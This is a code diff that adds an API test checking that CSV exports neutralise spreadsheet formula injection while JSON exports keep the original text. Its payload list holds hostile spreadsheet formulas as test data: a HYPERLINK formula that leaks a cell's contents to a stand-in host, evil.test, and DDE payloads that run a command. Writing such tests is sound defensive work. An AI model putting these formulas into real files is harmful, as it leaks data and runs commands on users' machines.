@@ -92,3 +92,43 @@ async def test_export_of_another_org_does_not_leak_rows(
 async def test_bad_format_is_422(client: httpx.AsyncClient, world: World) -> None:
     response = await client.post("/v1/exports", json={"format": "xml"}, headers=world.alice.headers)
     assert response.status_code == 422
+
+
+FORMULAS = [
+    ('=HYPERLINK("http://evil.test/?leak="&A1,"click me")', "+cmd|' /C calc'!A0"),
+    ("@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"),
+    ("\t=1+1", "=cmd"),
+    ("\r=1+1", "@x"),
+]
+
+
+async def test_csv_export_neutralises_formulas_and_json_export_keeps_the_exact_text(
+    client: httpx.AsyncClient, world: World
+) -> None:
+    stored = []  # as the API kept them (it may trim surrounding whitespace)
+    for message, category in FORMULAS:
+        body = {"recipient_id": world.bob.id, "message": message, "category": category}
+        created = await client.post("/v1/recognitions", json=body, headers=world.alice.headers)
+        assert created.status_code == 201, created.text
+        stored.append((created.json()["message"], created.json()["category"]))
+    contents = {}
+    for fmt in ("csv", "json"):
+        created = await client.post(
+            "/v1/exports", json={"format": fmt}, headers=world.alice.headers
+        )
+        assert (await wait_finished(client, world, created.json()["id"]))["status"] == "succeeded"
+        contents[fmt] = await client.get(
+            f"/v1/exports/{created.json()['id']}/content", headers=world.alice.headers
+        )
+    rows = list(csv.DictReader(io.StringIO(contents["csv"].text, newline="")))
+    assert sorted((r["message"], r["category"]) for r in rows) == sorted(
+        ("'" + message, "'" + category) for message, category in stored
+    )
+    for row in rows:
+        for cell in row.values():
+            assert not cell or cell[0] not in "=+-@\t\r"
+    for line in contents["csv"].text.splitlines():
+        if line:
+            assert line.startswith('"')  # every cell quoted
+    items = contents["json"].json()
+    assert sorted((i["message"], i["category"]) for i in items) == sorted(stored)
